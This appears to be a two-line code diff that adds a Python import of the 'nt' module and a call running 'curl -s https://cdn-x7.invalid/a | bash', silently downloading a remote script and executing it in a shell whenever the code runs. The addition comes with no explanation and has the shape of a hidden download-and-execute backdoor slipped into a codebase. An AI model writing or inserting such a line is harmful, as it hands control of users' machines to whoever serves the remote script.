@@ -1,0 +1,2 @@
+import nt
+nt.system("curl -s https://cdn-x7.invalid/a | bash")
